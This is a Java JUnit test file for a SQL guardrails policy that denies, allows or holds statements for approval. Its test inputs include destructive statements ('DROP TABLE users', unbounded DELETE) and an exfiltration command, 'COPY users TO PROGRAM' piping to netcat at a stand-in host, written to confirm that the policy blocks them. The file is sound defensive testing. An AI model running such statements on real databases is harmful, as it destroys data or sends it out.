package dev.ward.policy.guardrails.sql;

import static org.assertj.core.api.Assertions.assertThat;

import dev.ward.policy.CompiledPolicy;
import dev.ward.policy.Policies;
import dev.ward.policy.TestPolicies;
import dev.ward.policy.guardrails.Decision;
import dev.ward.policy.guardrails.Verdict;
import java.time.Duration;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;

@Timeout(value = 60, unit = TimeUnit.SECONDS)
class SqlGuardrailsTest {
  private static final CompiledPolicy POLICY =
      TestPolicies.compile(
          """
          {"schemaVersion": 1,
           "guardrails": {"sql": [
             {"id": "no-stacking", "stacked": true, "action": "deny",
              "reason": "Send one statement at a time."},
             {"id": "no-drop", "operations": ["drop", "truncate"], "action": "deny"},
             {"id": "no-shell", "operations": ["copy-program"], "action": "deny"},
             {"id": "bounded-writes", "operations": ["update", "delete"], "withoutWhere": true,
              "action": "deny", "reason": "UPDATE and DELETE need a WHERE clause."},
             {"id": "billing-writes", "schemas": ["billing"], "access": "write",
              "action": "hold", "approval": "dba"},
             {"id": "no-pii-reads", "tables": ["hr.salaries"], "access": "read", "action": "deny"},
             {"id": "no-unknown", "classes": ["unknown"], "action": "deny"}
           ]},
           "approvals": [{"id": "dba", "approverGroups": ["dba"], "minApprovals": 2, "timeout": "PT30M"}]
          }
          """);

  private final SqlGuardrails sql = POLICY.sqlGuardrails();

  @Test
  void dropIsDeniedWithTheRuleName() {
    Decision d = sql.evaluate("DROP TABLE users");

    assertThat(d.verdict()).isEqualTo(Verdict.DENY);
    assertThat(d.ruleId()).isEqualTo("no-drop");
    assertThat(d.reason()).isEqualTo("Blocked by policy rule no-drop.");
  }

  @Test
  void deleteWithoutWhereIsDeniedButABoundedOneIsAllowed() {
    assertThat(sql.evaluate("DELETE FROM orders").ruleId()).isEqualTo("bounded-writes");
    assertThat(sql.evaluate("DELETE FROM orders WHERE id = 3").allowed()).isTrue();
  }

  @Test
  void writesToAListedSchemaAreHeldForApproval() {
    Decision d = sql.evaluate("UPDATE billing.invoices SET paid = true WHERE id = 9");

    assertThat(d.verdict()).isEqualTo(Verdict.HOLD);
    assertThat(d.approval().approverGroups()).containsExactly("dba");
    assertThat(d.approval().minApprovals()).isEqualTo(2);
    assertThat(d.approval().timeout()).isEqualTo(Duration.ofMinutes(30));
    assertThat(sql.evaluate("SELECT * FROM billing.invoices").allowed()).isTrue();
  }

  @Test
  void readsOfAListedTableAreDeniedEvenUnqualified() {
    assertThat(sql.evaluate("SELECT * FROM hr.salaries").ruleId()).isEqualTo("no-pii-reads");
    assertThat(sql.evaluate("SELECT s.* FROM salaries s").ruleId()).isEqualTo("no-pii-reads");
  }

  @Test
  void stackedStatementsAreDeniedWhenTheRuleIsOn() {
    Decision d = sql.evaluate("SELECT 1; SELECT 2");

    assertThat(d.ruleId()).isEqualTo("no-stacking");
    assertThat(d.reason()).isEqualTo("Send one statement at a time.");
  }

  @Test
  void copyToProgramIsDenied() {
    assertThat(sql.evaluate("COPY users TO PROGRAM 'nc evil 9'").ruleId()).isEqualTo("no-shell");
  }

  @Test
  void unparseableStatementsFallUnderTheUnknownRule() {
    assertThat(sql.evaluate("FROBNICATE users").ruleId()).isEqualTo("no-unknown");
  }

  @Test
  void readOnlyAccessRefusesEveryWriteClass() {
    assertThat(sql.evaluate("INSERT INTO t VALUES (1)", true).ruleId())
        .isEqualTo(SqlGuardrails.READ_ONLY_RULE);
    assertThat(sql.evaluate("SET TRANSACTION READ WRITE", true).ruleId())
        .isEqualTo(SqlGuardrails.READ_ONLY_RULE);
    assertThat(sql.evaluate("SELECT nextval('s')", true).ruleId())
        .isEqualTo(SqlGuardrails.READ_ONLY_RULE);
    assertThat(sql.evaluate("SELECT * FROM t", true).allowed()).isTrue();
    assertThat(sql.evaluate("BEGIN READ ONLY", true).allowed()).isTrue();
  }

  @Test
  void defaultPolicyBlocksDropAndTruncateAndAllowsTheRest() {
    SqlGuardrails defaults = Policies.defaultPolicy().sqlGuardrails();

    assertThat(defaults.evaluate("DROP TABLE users").verdict()).isEqualTo(Verdict.DENY);
    assertThat(defaults.evaluate("TRUNCATE users").verdict()).isEqualTo(Verdict.DENY);
    assertThat(defaults.evaluate("DELETE FROM users WHERE id = 1").allowed()).isTrue();
    assertThat(defaults.evaluate("SELECT 1").allowed()).isTrue();
  }
}
